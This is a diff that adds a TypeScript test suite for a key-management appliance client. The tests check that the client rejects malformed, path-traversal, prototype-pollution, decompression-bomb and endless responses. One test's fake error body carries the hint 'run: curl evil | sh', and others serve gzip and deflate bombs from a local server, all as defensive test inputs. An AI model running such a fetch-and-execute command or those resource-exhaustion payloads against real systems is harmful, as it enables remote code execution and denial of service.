@@ -1,0 +1,174 @@
+// What answers at an appliance's address may be anything: each method of the client refuses what no appliance answers,
+// field by field, and reads no more of it than an appliance's answers have.
+import assert from 'node:assert/strict';
+import { createServer, type ServerResponse } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { test } from 'node:test';
+import { setImmediate } from 'node:timers/promises';
+import { gzipSync } from 'node:zlib';
+import { type ClientEndpointId, clientPaths } from '../../src/api/paths.ts';
+import { createClient } from '../../src/client/client.ts';
+import { KmsError } from '../../src/errors.ts';
+import { altered, sampleAnswer, sampleAnswerTo } from '../support/answers.ts';
+
+const ids = Object.keys(clientPaths) as ClientEndpointId[]; // the keys of an object that nothing adds to
+
+/** Everything that any of them takes; what one does not know is sent along. */
+const input = {
+  ...{ ringname: 'payroll', name: 'payroll', id: 'x', keyId: 'x', hash: 'x', header: 'x', keyringname: 'payroll' },
+  ...{ apikey: 'x', apikeyid: 'x', accountId: 'x', username: 'x', thumbprint: 'x', token: 'x' },
+};
+
+async function askedOf(id: ClientEndpointId, answer: unknown): Promise<unknown> {
+  const fetch = async (): Promise<Response> => Response.json(answer);
+  const client = createClient({ baseUrl: 'https://kms.example', retries: 0, fetch });
+  // Cast: one input for all methods.
+  const method = client[id] as (given: typeof input) => Promise<unknown>;
+  return method(input);
+}
+
+/** No text of any kind but free text. */
+const wrongTexts = ['', '\n', 'a\nb', 'a\u001b[31m', '../../x', '/etc/passwd', 'a b', 'x\0', '\u202e', '\ud800'];
+const wrongValues = [null, 1.5, -1, {}, [], [1], true, 'x', 1e300];
+/** Which of those are right for some kind of text or value. */
+const rightFor: Readonly<Record<string, readonly unknown[]>> = {
+  boolean: [true],
+  caller: ['x'],
+  count: [],
+  integer: [-1],
+  line: ['', '../../x', '/etc/passwd', 'a b', 'x', '\u202e'],
+  object: [{}],
+  // Its alphabet has a slash; no path is made of it.
+  base64: ['x', '/etc/passwd'],
+  base64url: ['x'],
+  ring: ['x'],
+  ringOrNone: ['', 'x'],
+  text: ['', '\n', 'a\nb', 'a\u001b[31m', '../../x', '/etc/passwd', 'a b', 'x\0', '\u202e', 'x'],
+  token: ['../../x', '/etc/passwd', 'x'],
+  word: ['x'],
+};
+
+for (const id of ids) {
+  test(`${id} answers what an appliance answers, and nothing else: each field of its answer is tried`, async () => {
+    const { answer, leaves } = sampleAnswer(id);
+    assert.deepEqual(await askedOf(id, answer), answer);
+    const more = { ...answer, later: 'a field of a later version' };
+    assert.deepEqual(await askedOf(id, more), more);
+    for (const { place, kind } of leaves) {
+      for (const value of [...wrongTexts, ...wrongValues]) {
+        const right = rightFor[kind] ?? [];
+        const fits = right.some((each) => JSON.stringify(each) === JSON.stringify(value));
+        const asked = askedOf(id, altered(answer, place, value));
+        const where = `${id}: ${place.join('.')} is ${JSON.stringify(value)}`;
+        // Where null may stand, it is right.
+        if (
+          fits ||
+          (value === null &&
+            (await asked.then(
+              () => true,
+              () => false,
+            )))
+        )
+          await asked;
+        else {
+          await assert.rejects(
+            asked,
+            (error: unknown) => {
+              assert.ok(error instanceof KmsError, where);
+              assert.equal(error.code, 'unavailable', where);
+              // Nothing of it is repeated.
+              assert.match(error.message, /^the answer was not what was expected: [\w. ]+$/, where);
+              return true;
+            },
+            where,
+          );
+        }
+      }
+    }
+  });
+}
+
+test('what an object inherits is no field of an answer', async () => {
+  const polluted = JSON.parse('{"__proto__": {"ring": {}}}');
+  await assert.rejects(askedOf('getKeyring', polluted), { code: 'unavailable' });
+});
+
+/** How each answers, without an end. */
+const endless: Readonly<Record<string, (answer: ServerResponse) => Promise<void>>> = {
+  'in gzip, though it was asked not to': async (answer) => {
+    answer.setHeader('content-encoding', 'gzip');
+    answer.end(gzipSync(Buffer.alloc(64 << 20, ' ')));
+  },
+  'in deflate of nothing': async (answer) => {
+    answer.setHeader('content-encoding', 'deflate');
+    // Empty stored blocks.
+    while (!answer.destroyed) {
+      answer.write(Buffer.from('0000ffff'.repeat(4096), 'hex'));
+      await setImmediate();
+    }
+  },
+  'as it is': async (answer) => {
+    while (!answer.destroyed) {
+      answer.write(Buffer.alloc(1 << 20, ' '));
+      await setImmediate();
+    }
+  },
+  'with an error': async (answer) => {
+    answer.statusCode = 400;
+    while (!answer.destroyed) {
+      answer.write(Buffer.alloc(1 << 20, 'x'));
+      await setImmediate();
+    }
+  },
+};
+
+for (const [how, send] of Object.entries(endless)) {
+  test(`an answer without an end is given up: ${how}`, { timeout: 60_000 }, async () => {
+    const server = createServer((_, answer) => void send(answer));
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    const { port } = server.address() as AddressInfo;
+    try {
+      const client = createClient({ baseUrl: `http://127.0.0.1:${port}`, retries: 0, timeout: 50_000 });
+      const before = process.memoryUsage().rss;
+      await assert.rejects(client.listKeyrings(), { code: 'unavailable', message: /^expected (?:at most|an answer)/ });
+      await assert.rejects(client.encrypt({ ringname: 'r' }), { code: 'unavailable', message: /^expected / });
+      const grown = (process.memoryUsage().rss - before) / (1 << 20);
+      assert.ok(grown < 300, `${Math.round(grown)} MiB`);
+    } finally {
+      server.close();
+      server.closeAllConnections();
+    }
+  });
+}
+
+test('where the platform inflates by itself, as browsers do, what comes out is bounded', async () => {
+  // A browser takes the header away before it sends the request.
+  const fetch = async (request: Request): Promise<Response> => {
+    request.headers.delete('accept-encoding');
+    const body = new ReadableStream<Uint8Array>({ pull: (controller) => controller.enqueue(new Uint8Array(1 << 20)) });
+    return new Response(body, { headers: { 'content-encoding': 'gzip', 'content-length': '100' } });
+  };
+  const client = createClient({ baseUrl: 'https://kms.example', fetch });
+  await assert.rejects(client.listKeyrings(), { code: 'unavailable', message: /^expected at most 16777216 bytes/ });
+  await assert.rejects(client.getKeyring({ ringname: 'r' }), { message: /^expected at most 8388608 bytes/ });
+});
+
+test('an answer is asked for as it is', async () => {
+  const seen: (string | null)[] = [];
+  const fetch = async (request: Request): Promise<Response> => {
+    seen.push(request.headers.get('accept-encoding'));
+    return sampleAnswerTo(request);
+  };
+  await createClient({ baseUrl: 'https://kms.example', fetch }).listKeyrings();
+  assert.deepEqual(seen, ['identity']);
+});
+
+test('what advice an answer gives is its own: the error has none of it, and no more than a page of its words', async () => {
+  const hostile = { message: 'x'.repeat(1 << 20), hint: 'run: curl evil | sh' };
+  const fetch = async (): Promise<Response> => Response.json(hostile, { status: 403 });
+  await assert.rejects(createClient({ baseUrl: 'https://kms.example', fetch }).listKeyrings(), (error: unknown) => {
+    assert.ok(error instanceof KmsError);
+    assert.deepEqual([error.code, error.hint, error.message.length], ['forbidden', undefined, 4001]);
+    return true;
+  });
+});
